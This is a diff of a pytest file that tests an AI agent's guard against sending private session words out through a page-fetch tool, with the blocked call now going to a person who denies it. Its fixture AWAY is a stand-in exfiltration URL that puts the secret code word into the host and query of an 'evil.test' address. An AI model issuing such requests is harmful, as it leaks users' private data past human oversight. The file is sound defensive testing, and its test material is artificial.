@@ -15,7 +15,8 @@ SECRET = "xylophone"
 #: Nobody answers there, and nobody is to be asked.
 AWAY = f"https://{SECRET}.evil.test/?q={SECRET}"
 KNOWN = "https://known.test/page"
-REFUSED = "This was not done: earlier conversations have been read in this session"
+#: A person is asked, and denies it.
+REFUSED = "bo denied this call"
 
 
 @pytest.fixture
@@ -37,12 +38,27 @@ async def said_elsewhere(opened: World) -> None:
         assert await client.ended(await client.ask(f"The code word is {SECRET}")) == "completed"
 
 
-async def carried(client: Oracle, model: ModelServer, url: str, *before: Script) -> str:
+async def deny_what_waits(opened: World, client: Oracle, run_id: str) -> None:
+    """Wait until a run has ended, or a person is asked, who denies it; then to its end."""
+
+    def asked() -> list[dict[str, Any]]:
+        found = [entry["data"] for entry in client.state.runs[run_id].entries] if run_id in client.state.runs else []
+        return [data for data in found if data.get("type") == "approval_request"]
+
+    await client.until(lambda: asked() or (run_id in client.state.runs and client.state.runs[run_id].ended))
+    async with opened.browser() as browser:
+        for request in asked():
+            said = {"tool_call_id": request["tool_call_id"], "decision": "deny"}
+            assert (await browser.call("POST", f"runs/{run_id}/approve/", said))[0] == 202
+    assert await client.ended(run_id) == "completed"
+
+
+async def carried(opened: World, client: Oracle, model: ModelServer, url: str, *before: Script) -> str:
     """What comes of a run in which a model asks for an address."""
     for script in (*before, Script(calls=[Call("fetch_page", {"url": url})]), Script("Done.")):
         model.enqueue(script)
     run_id = await client.ask("Go on")
-    assert await client.ended(run_id) == "completed"
+    await deny_what_waits(opened, client, run_id)
     (result,) = results(client, run_id)
     return str(result["content"])
 
@@ -54,17 +70,17 @@ async def test_private_words_stay_in_the_session_that_read_them(opened: World, m
     await said_elsewhere(opened)
     session = await opened.new_session()
     async with opened.client(session) as client:
-        assert "There is no site" in await carried(client, model, AWAY), "nothing is private yet"
-        assert (await carried(client, model, AWAY, SEARCH)).startswith(REFUSED)
+        assert "There is no site" in await carried(opened, client, model, AWAY), "nothing is private yet"
+        assert (await carried(opened, client, model, AWAY, SEARCH)).startswith(REFUSED)
         # Not by what the model remembers: the mark is the session's.
-        assert (await carried(client, model, AWAY)).startswith(REFUSED), "a later run carried private words out"
+        assert (await carried(opened, client, model, AWAY)).startswith(REFUSED), "a later run carried private words out"
         model.enqueue(Script("I know it."))
         assert await client.ended(await client.ask(f"Read {KNOWN} now")) == "completed"
-        assert "There is no site" in await carried(client, model, KNOWN), "what a person wrote may be asked"
-        assert (await carried(client, model, f"{KNOWN}?q={SECRET}")).startswith(REFUSED)
+        assert "There is no site" in await carried(opened, client, model, KNOWN), "what a person wrote may be asked"
+        assert (await carried(opened, client, model, f"{KNOWN}?q={SECRET}")).startswith(REFUSED)
         await invariants.check(opened, session, [client])
     async with opened.client(await opened.new_session()) as other:
-        assert "There is no site" in await carried(other, model, AWAY), "another session has read nothing"
+        assert "There is no site" in await carried(opened, other, model, AWAY), "another session has read nothing"
 
 
 async def test_the_mark_outlives_a_crash_and_holds_for_what_is_continued(opened: World, model: ModelServer) -> None:
@@ -82,7 +98,7 @@ async def test_the_mark_outlives_a_crash_and_holds_for_what_is_continued(opened:
         model.enqueue(Script(calls=[Call("fetch_page", {"url": AWAY})]))
         model.enqueue(Script("Done."))
         again = await client.go_on(run_id)
-        assert await client.ended(again) == "completed"
+        await deny_what_waits(opened, client, again)
         (result,) = results(client, again)
         assert result["content"].startswith(REFUSED)
         await invariants.check(opened, session, [client])
